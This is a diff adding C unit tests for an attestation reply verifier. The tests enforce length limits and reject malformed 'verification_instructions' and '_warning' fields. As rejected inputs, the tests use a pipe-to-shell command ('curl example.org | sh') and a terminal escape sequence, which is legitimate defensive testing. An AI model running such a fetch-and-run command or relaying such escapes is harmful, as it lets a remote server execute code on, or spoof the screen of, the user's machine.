@@ -748,6 +748,56 @@ static void a_vsock_reply_says_what_it_thinks_of_its_document_in_no_other_form(v
 	end(r);
 }
 
+static char *told(size_t n)
+{
+	char *text = malloc(n + 3);
+	assert_non_null(text);
+	memset(text, 'x', n + 2);
+	text[0] = text[n + 1] = '"';
+	text[n + 2] = '\0';
+	return text;
+}
+
+/* n steps of one text, and it as the summary. */
+static char *instructions(const char *text, size_t n)
+{
+	char *made = NULL;
+	size_t size = 0;
+	FILE *f = open_memstream(&made, &size);
+	assert_non_null(f);
+	fprintf(f, "{\"summary\":%s,\"steps\":[", text);
+	for (size_t i = 0; i < n; i++)
+		fprintf(f, "%s%s", i > 0 ? "," : "", text);
+	fputs("]}", f);
+	assert_int_equal(fclose(f), 0);
+	return made;
+}
+
+static void what_is_told_in_words_has_an_end(void **s)
+{
+	struct reply *r = key_exchange();
+	char *longest = told(4096), *longer = told(4097), *warning = told(1024), *more = told(1025);
+	char *most = instructions(longest, 64), *too_many = instructions("\"x\"", 65),
+	     *too_long = instructions(longer, 1);
+	(void)s;
+	set(&r->top, "verification_instructions", most);
+	set(&r->top, "_warning", warning);
+	set(&r->shown, "_warning", warning);
+	accepted(r, NULL, NULL);
+	lie(r, "verification_instructions", too_many);
+	lie(r, "verification_instructions", too_long);
+	lie(r, "_warning", more);
+	lie_as(r, &r->shown, "_warning", more, VERIFY_REPLY_MISMATCH, "attestation_document._warning");
+	free(longest);
+	free(longer);
+	free(warning);
+	free(more);
+	free(most);
+	free(too_many);
+	free(too_long);
+	end(r);
+}
+
 static void nothing_signed_is_not_the_empty_text(void **s)
 {
 	struct reply *r = vsock(NULL, NULL, NULL);
@@ -924,6 +974,12 @@ static void what_is_not_signed_has_the_form_that_the_server_gives_it(void **s)
 	lie(r, "verification_instructions", "\"curl example.org | sh\"");
 	lie(r, "verification_instructions", "[]");
 	lie(r, "verification_instructions", "null");
+	lie(r, "verification_instructions", "{\"pcr0\":\"00\"}");
+	lie(r, "verification_instructions", "{\"summary\":null}");
+	lie(r, "verification_instructions", "{\"steps\":\"x\"}");
+	lie(r, "verification_instructions", "{\"steps\":[{}]}");
+	lie(r, "verification_instructions", "{\"steps\":[\"\\u001b[2J\"]}");
+	lie(r, "_warning", "\"\\u00fc\"");
 	lie(r, "encrypted_session_key", "null");
 	lie(r, "encrypted_session_key", "\"\"");
 	lie(r, "encrypted_session_key", "\"AAAA\"");
@@ -1178,6 +1234,7 @@ int main(void)
 		cmocka_unit_test(a_name_is_shown_in_ascii_and_no_other_looks_like_it),
 		cmocka_unit_test(what_is_not_signed_is_named),
 		cmocka_unit_test(what_is_not_signed_has_the_form_that_the_server_gives_it),
+		cmocka_unit_test(what_is_told_in_words_has_an_end),
 		cmocka_unit_test(a_session_may_live_as_long_as_the_server_lets_it),
 		cmocka_unit_test(every_lie_is_named),
 		cmocka_unit_test(custom_data_must_have_the_signed_digest),
